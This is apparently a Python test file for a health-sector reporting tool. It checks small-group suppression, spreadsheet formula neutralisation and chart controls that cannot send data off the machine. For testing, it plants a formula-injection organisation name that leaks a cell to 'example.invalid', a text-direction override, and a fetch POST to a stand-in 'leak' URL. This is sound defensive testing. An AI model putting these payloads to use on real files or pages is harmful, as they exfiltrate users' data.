"""Reports built from hostile, small data: no cloud button, no request off the machine,
small groups withheld, and no live formula in the files written.

The data are written here: 15 fictional organisations, two of them in London
(one named like a spreadsheet formula, one with a text-direction override),
six in the South West and seven in the Midlands; three LKS services.
Reports are built through the public command line, as a user would.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from qio_analysis.cli import main
from qio_analysis.io.writers import is_formula_like
from tests.browser import ARTIFACTS, launch

pytestmark = pytest.mark.slow

FORMULA_NAME = '=HYPERLINK("http://example.invalid/?leak="&A1,"x")'
BIDI_NAME = "Quay\u202eview Hospitals NHS Trust"
REGIONS = {"London": [1, 3], "South West": [2] * 6, "Midlands": [4] * 7}


def write_data(folder):
    """Submissions, statistics and organisations tables in the export layouts the readers accept."""
    head = ["Organisation code", "Organisation name", "Region", "Cycle"]
    for n in range(1, 7):
        head += [f"Outcome {n} self-evaluated", f"Outcome {n} validated"]
    subs, orgs, number = (
        [head],
        [
            [
                "Organisation code",
                "Organisation name",
                "Organisation type",
                "Region",
                "LKS service code",
            ]
        ],
        0,
    )
    services = {"London": "ZQS1", "South West": "ZQS2", "Midlands": "ZQS3"}
    for region, levels in REGIONS.items():
        for level in levels:
            number += 1
            code = f"ZQ{number:02d}"
            name = {1: FORMULA_NAME, 2: BIDI_NAME}.get(number, f"Fictional Trust {number}")
            subs.append([code, name, region, "2025", *[str(level)] * 12])
            orgs.append([code, name, "Acute", region, services[region]])
    stats = [
        [
            "Service code",
            "Service name",
            "Lead organisation code",
            "Organisations served",
            "Region",
            "Year",
            "Qualified LKS staff WTE",
            "NHS staff WTE served",
            "Enquiries",
            "Expert searches",
            "People trained",
        ],
        [
            "ZQS1",
            "Harbour LKS",
            "ZQ01",
            "ZQ01;ZQ02",
            "London",
            "2024/25",
            "4",
            "6000",
            "900",
            "200",
            "300",
        ],
        ["ZQS2", "Moor LKS", "ZQ03", "", "South West", "2024/25", "2", "3000", "400", "90", "100"],
        ["ZQS3", "Vale LKS", "ZQ09", "", "Midlands", "2024/25", "3", "5000", "700", "150", "200"],
    ]
    paths = {}
    for name, rows in (("submissions", subs), ("organisations", orgs), ("statistics", stats)):
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerows(rows)
        paths[name] = folder / f"{name}.csv"
        paths[name].write_text(buffer.getvalue(), encoding="utf-8")
    return paths


def build(out, paths, *extra):
    args = ["reports", "--cycle", "2025", "--region", "London", "--out", str(out), "--jobs", "1"]
    args += [f"--{k}={v}" for k, v in paths.items()]
    return main([*args, "--quiet", "--errors", "report", *extra])


@pytest.fixture(scope="module")
def small_reports(tmp_path_factory):
    folder = tmp_path_factory.mktemp("confidential")
    paths = write_data(folder)
    out = folder / "out"
    assert build(out, paths) == 0
    single = folder / "single"
    assert build(single, paths, "--self-contained") == 0
    return out, single


# ------------------------------------------------------------------ suppression


def manifest(out) -> dict[str, dict]:
    data = json.loads((out / "manifest.json").read_text())
    items = data["items"] if isinstance(data, dict) else data
    return {i["item"]: i for i in items}


def test_a_region_of_two_is_withheld_in_its_organisations_reports(small_reports):
    out, _ = small_reports
    html = (out / "2025" / "organisations" / "ZQ02.html").read_text()
    assert "London is not shown. Fewer than 5 organisations are behind these figures" in html
    assert "Not shown: fewer than 5 organisations" in html
    assert "London: median" not in html and "England: median" in html
    assert "Fewer than 5 LKS services are behind these figures" in html  # England activity
    assert "\u202e" not in html  # the override never reaches the page


def test_the_manifest_records_what_was_withheld(small_reports):
    out, _ = small_reports
    item = manifest(out)["2025/organisations/ZQ01"]
    groups = [(s["group"], s["n"]) for s in item["extra"]["suppressed"]]
    assert groups == [("London", 2), ("England (LKS activity)", 3)]


def test_manifest_csv_has_no_cell_a_spreadsheet_would_run(small_reports):
    out, _ = small_reports
    text = (out / "manifest.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [c for row in rows for c in row]
    assert any("HYPERLINK" in c for c in cells), "the hostile name should be in the manifest"
    assert not [c for c in cells if is_formula_like(c)]


# ------------------------------------------------------------------ browser

REPORTS = [
    ("out", "2025/organisations/ZQ01.html"),
    ("out", "2025/regions/london-validation.html"),
    ("single", "2025/organisations/ZQ02.html"),
]


@pytest.mark.browser
@pytest.mark.parametrize(("folder", "report"), REPORTS)
def test_no_chart_can_send_data_off_the_machine(small_reports, folder, report):
    """Every modebar button is hovered and clicked; nothing leaves file://, no popup opens."""
    sync_api = pytest.importorskip("playwright.sync_api")
    root = dict(zip(("out", "single"), small_reports, strict=True))[folder]
    ARTIFACTS.mkdir(exist_ok=True)
    outside, popups, errors = [], [], []
    with sync_api.sync_playwright() as p:
        browser = launch(p)
        context = browser.new_context(
            accept_downloads=True, viewport={"width": 1100, "height": 900}
        )

        def guard(route):
            url = route.request.url
            if url.startswith(("file://", "data:", "blob:")):
                route.continue_()
            else:
                outside.append(url)
                route.abort()

        context.route("**/*", guard)
        page = context.new_page()
        context.on("page", lambda pg: popups.append(pg.url))  # any window opened after ours
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.on("popup", lambda pg: popups.append(pg.url))
        page.on(
            "request",
            lambda r: (
                None if r.url.startswith(("file:", "data:", "blob:")) else outside.append(r.url)
            ),
        )
        page.goto((root / report).as_uri())
        page.wait_for_function(
            "document.querySelectorAll('.qio-plot .modebar').length > 0", timeout=20_000
        )
        charts = page.locator(".qio-plot")
        titles = page.evaluate(
            "[...document.querySelectorAll('.modebar-btn')].map(b => b.getAttribute('data-title') || '')"
        )
        links = page.evaluate("document.querySelectorAll('.modebar a[href]').length")
        sharing = [t for t in titles if re.search(r"share|cloud|studio", t, re.IGNORECASE)]
        clicked = 0
        for i in range(charts.count() if not sharing else 0):
            chart = charts.nth(i)
            chart.scroll_into_view_if_needed()
            chart.hover()
            buttons = chart.locator(".modebar-btn")
            for j in range(buttons.count()):
                button = buttons.nth(j)
                button.hover(timeout=5_000)
                button.click(timeout=5_000)
                clicked += 1
                page.keyboard.press("Escape")  # close anything a button opened
                page.wait_for_timeout(100)
        page.wait_for_timeout(500)
        page.screenshot(
            path=str(ARTIFACTS / ("confidential__" + report.replace("/", "__") + ".png")),
            full_page=True,
        )
        # Defence in depth: even code on the page cannot send data (the report's CSP).
        violated = page.evaluate(
            """async () => {
                const seen = new Promise(done => document.addEventListener(
                    'securitypolicyviolation', e => done(e.effectiveDirective), {once: true}));
                try { await fetch('https://example.invalid/leak', {method: 'POST', body: 'x'}); }
                catch (e) {}
                return await Promise.race([seen, new Promise(done => setTimeout(() => done(''), 2000))]);
            }"""
        )
        browser.close()
    assert violated == "connect-src", "the report's Content-Security-Policy must block fetch"
    assert titles, "the charts should have a modebar to test"
    assert sharing == [], "a modebar button offers to share the chart"
    assert links == 0, "a modebar button is a link"
    assert clicked == len(titles)
    assert outside == [], outside
    assert popups == [], popups
    assert errors == []
